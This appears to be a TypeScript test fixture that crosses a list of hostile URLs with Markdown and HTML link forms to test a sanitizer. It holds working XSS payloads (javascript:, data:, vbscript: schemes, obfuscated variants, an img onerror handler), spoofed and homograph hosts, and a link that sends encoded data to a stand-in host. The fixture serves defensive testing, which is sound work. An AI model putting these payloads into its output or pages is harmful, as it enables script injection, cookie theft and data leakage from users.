/** Addresses that run, load, mislead or carry something out. */
const destinations = [
  'javascript:alert(1)',
  'JAVASCRIPT:alert(document.cookie)',
  '\u0001javascript:alert(1)',
  'java\u200Bscript:alert(1)',
  'javascript&colon;alert(1)',
  '&#x6a;&#x61;&#x76;&#x61;script:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+',
  'vbscript:msgbox(1)',
  'blob:https://canary.example/1',
  'filesystem:https://canary.example/temporary/a',
  'view-source:https://canary.example/',
  'ws://canary.example/socket',
  '//canary.example/a.png',
  '\\\\canary.example\\a.png',
  'https:/\\canary.example/a.png',
  'https://bank.example@canary.example/a.png',
  'https://canary.example/a.png?d=c2VjcmV0',
  'https://xn--80ak6aa92e.example/\u202Egnp.a',
  'https://canary.example\u3002evil/a.png',
] as const

/** Forms of an address that Markdown, HTML or a careless renderer might follow. */
const forms: readonly ((to: string) => string)[] = [
  (to) => `[pay](${to})`,
  (to) => `[pay](<${to}> "title")`,
  (to) => `![pay](${to})`,
  (to) => `[![pay](${to})](${to})`,
  (to) => `[pay][a]\n\n[a]: ${to}`,
  (to) => `<${to}>`,
  (to) => `<img src="${to}" onerror="alert(1)">`,
]

/** Each hostile address in each form. */
export const hostileLinks: readonly string[] = destinations.flatMap((to) =>
  forms.map((form) => form(to)),
)
